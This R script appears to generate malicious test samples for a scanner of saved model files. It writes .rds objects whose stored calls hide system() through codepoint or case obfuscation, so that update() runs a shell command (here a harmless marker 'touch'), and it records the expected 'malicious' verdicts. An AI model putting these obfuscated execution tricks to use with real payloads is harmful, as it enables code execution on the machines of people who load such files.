#!/usr/bin/env Rscript
# Stored model calls that build text at run time from functions that compute values (R 4.2.2,
# saveRDS): readRDS runs nothing, but update() evaluates the call, and the text becomes a function
# name (reorder.default passes FUN to tapply, which match.fun()s it) or a formula (a formula given
# as text starting with "(" is evaluated). Each must be malicious; the generator proves the payload
# runs under update() (it touches /tmp/modelgate-r-computed-text).
#
#     Rscript samples/generate/r_computed_text.R
out <- file.path("samples", "r-computed-text")
dir.create(out, showWarnings = FALSE, recursive = TRUE)
marker <- "/tmp/modelgate-r-computed-text" # lower case: one payload is rebuilt by tolower()
d <- data.frame(x = 1:10, y = (1:10) * 2)
fit <- lm(y ~ x, data = d)
codes <- function(s) utf8ToInt(s)
cmd <- paste("touch", marker)
calls <- list(
  reorder_codepoints = bquote(lm(y ~ x, data = d, weights = reorder(factor("a"), intToUtf8(.(codes(cmd))), FUN = intToUtf8(.(codes("system")))))),
  reorder_case = bquote(lm(y ~ x, data = d, weights = reorder(factor("a"), tolower(.(toupper(cmd))), FUN = tolower("SYSTEM")))),
  formula_codepoints = bquote(lm(formula = intToUtf8(.(codes(sprintf("(system('%s'))", cmd)))), data = d))
)
for (n in names(calls)) {
  m <- fit
  m$call <- calls[[n]]
  path <- file.path(out, paste0(n, ".rds"))
  saveRDS(m, path)
  unlink(marker)
  try(update(readRDS(path)), silent = TRUE)
  if (!file.exists(marker)) stop(sprintf("%s: update() did not run the payload", n))
}
unlink(marker)
entries <- sprintf('  "r-computed-text/%s.rds": { "verdict": "malicious", "rules": ["r/language-call"] }', names(calls))
writeLines(c("{", paste(entries, collapse = ",\n"), "}"), file.path(out, "expected.json"))
